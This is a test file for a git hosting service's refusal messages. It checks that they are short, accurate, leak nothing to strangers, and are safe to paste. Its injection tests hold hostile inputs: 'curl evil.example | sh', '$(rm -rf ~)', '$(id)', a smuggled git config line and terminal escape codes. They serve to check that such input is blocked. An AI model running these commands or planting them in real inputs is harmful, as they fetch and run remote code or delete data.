import { describe, expect, it } from 'vitest';
import { machineRemedy } from '../../src/catalogue/refusals/machines.ts';
import { reasonIn } from '../../src/catalogue/refusals/recognised.ts';
import { REASONS, REFUSALS, type Reason, type RefusalFacts } from '../../src/catalogue/refusals/refusals.ts';

const NOTHING: RefusalFacts = {
  instanceName: 'Latchkey',
  limit: null,
  approval: null,
  move: null,
  publicUrl: 'https://git.example.com',
  login: null,
  keeper: null,
  tokenKind: null,
  sshKey: null,
  tokenId: null,
  tokenName: null,
  lastEight: null,
  derivedFrom: null,
  resource: null,
  expiresAt: null,
  notBeforeAt: null,
  revokedAt: null,
  revokedBy: null,
  ownerLogin: null,
  ownerKind: null,
  fullName: '',
  missing: [],
  needed: [],
  missingScopes: [],
  capDays: null,
  decidedBy: null,
  product: null,
  problem: null,
  address: null,
  retryAfterSec: null,
  reaches: null,
  denialReason: null,
  paths: [],
  urlUsername: null,
};
const FINE_GRAINED: RefusalFacts = {
  ...NOTHING,
  login: 'ada',
  tokenKind: 'fine-grained',
  tokenId: 7,
  tokenName: 'ci',
  lastEight: 'x1Y2z3A4',
  expiresAt: 1_795_248_000,
  notBeforeAt: 1_795_248_000,
  revokedAt: 1_795_248_000,
  revokedBy: 'bob',
  ownerLogin: 'acme',
  ownerKind: 'organization',
  fullName: 'acme/site',
  missing: [{ permission: 'contents', level: 'write' }],
  capDays: 30,
  decidedBy: 'organization',
  product: 'GitHub',
  address: '203.0.113.7',
  retryAfterSec: 90,
  reaches: '2 selected repositories',
  denialReason: null,
  paths: ['.github/workflows/ci.yml', '.github/workflows/release.yml'],
};
const CLASSIC: RefusalFacts = { ...FINE_GRAINED, tokenKind: 'classic', missingScopes: ['security_events', 'repo'] };
const SCOPED: RefusalFacts = { ...FINE_GRAINED, tokenKind: 'scoped', missing: [{ permission: 'git', level: 'write' }] };
const CROWDED: RefusalFacts = {
  ...FINE_GRAINED,
  login: 'ada-of-the-analytical',
  ownerLogin: 'the-difference-engines',
  fullName: 'the-difference-engines/a-repository-of-ordinary-length',
  tokenName: 'A name as long as a name of a token goes',
  urlUsername: 'charles-the-engineer',
  revokedBy: 'reported as leaked by anonymous',
  missing: [
    { permission: 'contents', level: 'write' },
    { permission: 'workflows', level: 'write' },
    { permission: 'administration', level: 'read' },
  ],
};
const WORLDS = { NOTHING, FINE_GRAINED, CLASSIC, SCOPED, CROWDED };

/** The lines that a text takes in a terminal, broken at spaces. */
function linesOf(text: string): number {
  let lines = 1;
  let width = 0;
  for (const word of text.split(' ')) {
    if (width > 0 && width + 1 + word.length > 100) [lines, width] = [lines + 1, word.length];
    else width += word.length + (width > 0 ? 1 : 0);
  }
  return lines;
}

function said(
  reason: Reason,
  facts: RefusalFacts,
): { sentence: string; text: string; url: string | undefined; command: string | undefined } {
  const { text, url, command } = REFUSALS[reason].remedy(facts);
  return { sentence: REFUSALS[reason].sentence(facts), text, url, command };
}

describe('every refusal', () => {
  for (const [world, facts] of Object.entries(WORLDS)) {
    it.each(REASONS)(`%s fits in four lines and ends in a URL or a command (${world})`, (reason) => {
      const { sentence, text, url, command } = said(reason, facts);
      const links = (url === undefined ? 0 : 1) + (command === undefined ? 0 : 1);
      expect(links).toBeGreaterThan(0);
      expect(linesOf(sentence) + linesOf(text) + links, `${sentence}\n${text}`).toBeLessThanOrEqual(4);
      expect(`${sentence} ${text}`).not.toMatch(/null|undefined|NaN|\bthis does|^[a-z].*\.\s\s|\s{2}/);
      expect(sentence).toMatch(/[.)]$/);
      expect(url ?? '/').toMatch(/^\/[\w./~:?&=,%+-]*$/);
    });
  }

  it.each(REASONS)('%s has a paragraph for the troubleshooting page', (reason) => {
    expect(REFUSALS[reason].about).toMatch(/^[A-Z].{40,}\.$/s);
  });

  it.each(REASONS)('%s lets no text of the caller steer a terminal', (reason) => {
    const evil = 'x\u001b[2J\u202e\r\ny';
    const { sentence, text, url, command } = said(reason, {
      ...FINE_GRAINED,
      login: evil,
      fullName: evil,
      tokenName: evil,
      ownerLogin: evil,
      urlUsername: evil,
      revokedBy: evil,
      reaches: evil,
      denialReason: evil,
      paths: [evil],
    });
    expect(`${sentence}${text}${url}${command}`).not.toMatch(/[\u0000-\u001f\u202e]/);
  });

  it.each([
    ["x'; curl evil.example | sh; '", 'a quote ends the word'],
    ['x$(id)', 'a substitution'],
    ['x\\nhost=evil.example', 'another line for git'],
    ['x%s', 'a directive of printf'],
  ])(
    'a clone address with the username %j puts no command of its own into what is offered to paste (%s)',
    (urlUsername) => {
      const { command, url } = said('not_found', { ...FINE_GRAINED, urlUsername });
      expect([command, url]).toEqual([undefined, expect.any(String)]);
    },
  );

  it('is said to strangers only when it is about what they sent, or tells nothing', () => {
    expect(REASONS.filter((reason) => REFUSALS[reason].strangerMayHear)).toEqual([
      'credentials_missing',
      'credentials_malformed',
      'username_missing',
      'password_empty',
      'token_wrapped',
      'placeholder_sent',
      'password_not_accepted',
      'token_mistyped',
      'token_unknown',
      'token_of_other_product',
      'key_pasted',
      'token_expired',
      'token_revoked',
      'token_replaced',
      'token_not_yet_valid',
      'token_used_up',
      'owner_suspended',
      'owner_disabled_by_provider',
      'account_locked',
      'too_many_attempts',
      'rate_limited',
      'not_found',
    ]);
  });

  it('makes git forget what is dead, and keep what lives', () => {
    const alive: Reason[] = [
      'token_not_yet_valid',
      'address_not_allowed',
      'not_found',
      'permission_missing',
      'grant_pending',
      'rate_limited',
      'classic_forbidden',
    ];
    const dead: Reason[] = [
      'token_expired',
      'token_revoked',
      'token_replaced',
      'token_unknown',
      'password_not_accepted',
      'token_mistyped',
      'key_pasted',
    ];
    expect(alive.map((reason) => REFUSALS[reason].credentialIsDead)).toEqual(alive.map(() => false));
    expect(dead.map((reason) => REFUSALS[reason].credentialIsDead)).toEqual(dead.map(() => true));
  });
});

describe('what git prints of a refusal', () => {
  for (const [world, facts] of Object.entries(WORLDS))
    it.each(REASONS)(`tells its reason: %s (${world})`, (reason) => {
      const { sentence, text } = said(reason, facts);
      expect([sentence, reasonIn(`remote: ${sentence}\nremote: ${text}\nfatal: unable to access`)]).toEqual([
        sentence,
        reason,
      ]);
    });

  it.each([
    ['! [remote rejected] main -> main (ref rules allow agent/** only)', 'ref_not_allowed'],
    ['! [remote rejected] main -> main (ref rule main allows nothing only)', 'ref_not_allowed'],
    ['! [remote rejected] x -> x (ref rules open no symbolic ref)', 'ref_not_allowed'],
    ['! [remote rejected] x -> x (ref rules never open this one)', 'ref_not_allowed'],
    ['! [remote rejected] main -> main (protected: nobody may force-push to it)', 'ref_protected'],
    ['! [remote rejected] x -> x (a symbolic ref does not move beside protected ones)', 'ref_protected'],
    ['! [remote rejected] main -> main (needs approval: https://g/settings/push-approvals/7)', 'ref_needs_approval'],
    ['{"message":"Bad credentials","latchkey":{"reason":"token_expired"}}', 'token_expired'],
    ['https://git.example.com/help/repository_full', 'repository_full'],
    ['fatal: not a git repository', null],
    ['error: failed to push some refs to main', null],
    ['', null],
  ])('%s', (text, reason) => expect(reasonIn(text)).toBe(reason));
});

describe('a machine account that was refused', () => {
  const of = (login: string, kind: 'user' | 'organization'): RefusalFacts => ({
    ...FINE_GRAINED,
    login: 'deploy-bot',
    keeper: { login, kind },
  });
  const help = (reason: Reason, facts: RefusalFacts) => {
    const remedy = REFUSALS[reason].remedy(facts);
    return machineRemedy(reason, facts, remedy) ?? remedy;
  };

  it.each(REASONS)('is led to no page that only a person opens (%s)', (reason) => {
    for (const facts of [of('acme', 'organization'), of('ada', 'user')]) {
      const { text, url = '' } = help(reason, facts);
      expect(url).not.toMatch(/^\/settings\/(?!machines\/|push-approvals)|^\/-\/|\/sso|^\/$/);
      if (!/machines\//.test(url)) continue;
      expect([text, url]).toEqual([
        expect.stringContaining(facts.keeper?.kind === 'user' ? 'sk ada' : 'sk an owner of acme'),
        expect.stringMatching(
          facts.keeper?.kind === 'user'
            ? /^\/settings\/machines\/deploy-bot(\/tokens\/7)?$/
            : /^\/organizations\/acme\/settings\/machines\/deploy-bot(\/tokens\/7)?$/,
        ),
      ]);
      expect(linesOf(REFUSALS[reason].sentence(facts)) + linesOf(text)).toBeLessThanOrEqual(3);
    }
  });

  it('with a token from an exchange or a derivation that has ended gets another from there', () => {
    for (const reason of ['token_expired', 'token_revoked'] as const)
      expect(help(reason, { ...of('acme', 'organization'), derivedFrom: 'deploy' })).toEqual({
        text: expect.stringContaining('exchange the token of the job anew'),
        url: `/help/${reason}`,
      });
  });
});

describe('what is not to be known', () => {
  it.each(['not_found', 'public_only'] as const)('%s says the same whether the thing is there or not', (reason) => {
    const there = {
      ...FINE_GRAINED,
      ownerKind: 'organization' as const,
      missing: [{ permission: 'contents' as const, level: 'read' as const }],
      decidedBy: 'organization' as const,
    };
    const absent = { ...there, ownerKind: null, decidedBy: null, capDays: null };
    expect(said(reason, there)).toEqual(said(reason, absent));
  });

  it('covers absent, not selected and not allowed in one sentence', () => {
    expect(said('not_found', FINE_GRAINED).sentence).toBe(
      'acme/site does not exist, is not selected for this token, or ada may not see it.',
    );
    expect(said('public_only', FINE_GRAINED).sentence).toBe(
      'The token "ci" reads public repositories only; acme/site is none of them, or does not exist.',
    );
  });
});

describe('the words of one refusal', () => {
  it('name what a fine-grained token lacks and open its page filled in', () => {
    const facts = {
      ...FINE_GRAINED,
      missing: [
        { permission: 'git', level: 'write' },
        { permission: 'workflows', level: 'write' },
      ],
    } satisfies RefusalFacts;
    expect(said('permission_missing', facts)).toEqual({
      sentence: 'The token "ci" lacks contents: write and workflows: write on acme/site.',
      text: 'Add what is missing:',
      url: '/settings/personal-access-tokens/7?target_name=acme&repositories=site&contents=write&workflows=write',
      command: undefined,
    });
  });

  it('name all classic scopes that would do and link the one that opens least', () => {
    expect(said('scope_missing', CLASSIC)).toMatchObject({
      sentence: 'The token "ci" lacks a scope for this: security_events or repo.',
      url: '/settings/tokens/7?scopes=security_events',
    });
  });

  it('find the scope for a missing permission', () => {
    expect(said('scope_missing', { ...CLASSIC, missingScopes: [] })).toMatchObject({
      sentence: 'The token "ci" lacks the scope repo.',
      url: '/settings/tokens/7?scopes=repo',
    });
    expect(said('scope_missing', SCOPED)).toMatchObject({
      sentence: 'The token "ci" lacks the scope write_repository.',
      url: '/-/user_settings/personal_access_tokens?name=ci&scopes=write_repository',
    });
    expect(
      said('scope_missing', {
        ...CLASSIC,
        missingScopes: [],
        missing: [{ permission: 'acme:deploy', level: 'write' }],
      }),
    ).toMatchObject({
      sentence: 'The token "ci" has no scope that gives acme:deploy: write.',
      url: '/settings/personal-access-tokens/new?name=ci&target_name=acme&repositories=site&acme:deploy=write',
    });
  });

  it('say in each kind’s terms what a workflow file takes', () => {
    expect(said('workflow_permission_missing', FINE_GRAINED)).toMatchObject({
      sentence: 'The push changes .github/workflows/ci.yml and 1 more; the token "ci" lacks workflows: write.',
      url: '/settings/personal-access-tokens/7?target_name=acme&repositories=site&workflows=write',
    });
    expect(said('workflow_permission_missing', CLASSIC)).toMatchObject({ url: '/settings/tokens/7?scopes=workflow' });
    expect(said('workflow_permission_missing', SCOPED)).toMatchObject({
      url: '/-/user_settings/personal_access_tokens?name=ci&scopes=write_repository',
    });
  });

  it('name the day of an end', () => {
    expect(said('token_expired', FINE_GRAINED).sentence).toBe('The token "ci" expired on 21 Nov 2026, 08:00 UTC.');
    expect(said('token_revoked', FINE_GRAINED).sentence).toBe(
      'The token "ci" was revoked on 21 Nov 2026, 08:00 UTC (bob).',
    );
  });

  it('point out a credential of another account', () => {
    expect(said('role_insufficient', { ...FINE_GRAINED, urlUsername: 'bob' }).sentence).toBe(
      'ada may not do this on acme/site (contents: write), so their tokens may not either. ' +
        '(The token is of ada, not bob.)',
    );
  });

  it('give a command to paste when a username is missing', () => {
    expect(said('username_missing', { ...NOTHING, fullName: 'acme/site' }).command).toBe(
      'git clone https://git@git.example.com/acme/site.git',
    );
    expect(said('username_missing', { ...NOTHING, fullName: 'acme/$(rm -rf ~)' }).command).toBeUndefined();
  });

  it('speak for the instance where that decided', () => {
    expect(said('classic_forbidden', { ...CLASSIC, decidedBy: 'instance' }).sentence).toBe(
      'Latchkey (git.example.com) does not allow personal access tokens (classic).',
    );
    expect(said('classic_forbidden', CLASSIC)).toMatchObject({
      sentence: 'acme does not allow personal access tokens (classic).',
      url: '/settings/personal-access-tokens/new?name=ci&target_name=acme&repositories=site&contents=write',
    });
  });
});
